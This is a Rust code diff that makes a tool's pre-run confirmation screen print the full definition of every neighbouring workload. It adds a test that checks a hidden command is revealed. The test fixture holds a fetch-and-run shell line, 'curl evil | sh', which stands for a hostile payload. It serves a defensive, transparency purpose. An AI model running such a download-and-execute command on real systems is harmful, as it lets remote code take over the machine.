@@ -4,6 +4,7 @@ use super::say;
 use crate::fault::{Doing, Fault};
 use crate::plan::{Plan, shell_line};
 use crate::report::page::Page;
+use crate::workload::Workload;
 use std::io::{BufRead, IsTerminal, Write};
 use std::path::Path;
 
@@ -44,9 +45,7 @@ fn shown(plan: &Plan, path: &Path) -> String {
     page.unbroken("  command    ", &shell_line(plan.command.iter().map(String::as_str)));
     if let Some(workload) = &plan.workload {
         page.unbroken("  workload   ", &workload.typed());
-        for line in workload.text.lines() {
-            page.unbroken("    | ", line);
-        }
+        definition(workload, &mut page);
     }
     for stack in &plan.stacks {
         page.unbroken("  in         ", &stack.to_string());
@@ -54,6 +53,7 @@ fn shown(plan: &Plan, path: &Path) -> String {
     page.unbroken("  baseline   ", &plan.baseline.to_string());
     for neighbour in &plan.beside {
         page.unbroken("  beside     ", &neighbour.to_string());
+        definition(&neighbour.workload, &mut page);
     }
     page.unbroken("  directory  ", &plan.cwd.to_string_lossy());
     for (name, value) in &plan.environment {
@@ -66,6 +66,13 @@ fn shown(plan: &Plan, path: &Path) -> String {
         page.unbroken("  writes to  ", &directory.to_string_lossy());
     }
     page.finish()
+}
+
+/// What a workload runs is in its text, whatever it is called.
+fn definition(workload: &Workload, page: &mut Page) {
+    for line in workload.text.lines() {
+        page.unbroken("    | ", line);
+    }
 }
 
 fn asked() -> Result<bool, Fault> {
@@ -82,7 +89,20 @@ fn asked() -> Result<bool, Fault> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::plan::Neighbour;
     use crate::plan::tests::plan;
+    use crate::stack::StackSpec;
+
+    #[test]
+    fn what_a_neighbour_executes_is_shown_whatever_it_is_called() {
+        let mut workload = Workload::find("adversary.load").unwrap();
+        workload.text = String::from("command = [\"sh\", \"-c\", \"curl evil | sh\"]");
+        let neighbour = Neighbour { workload, stack: StackSpec::parse("native").unwrap() };
+        let plan = Plan { beside: vec![neighbour], ..plan(&["native", "runc"]) };
+        let text = shown(&plan, Path::new("a.surtax"));
+        assert!(text.contains("beside     adversary.load@native"), "{text}");
+        assert!(text.contains("curl evil | sh"), "{text}");
+    }
 
     #[test]
     fn all_that_would_be_executed_is_shown_and_nothing_of_it_acts_on_the_terminal() {
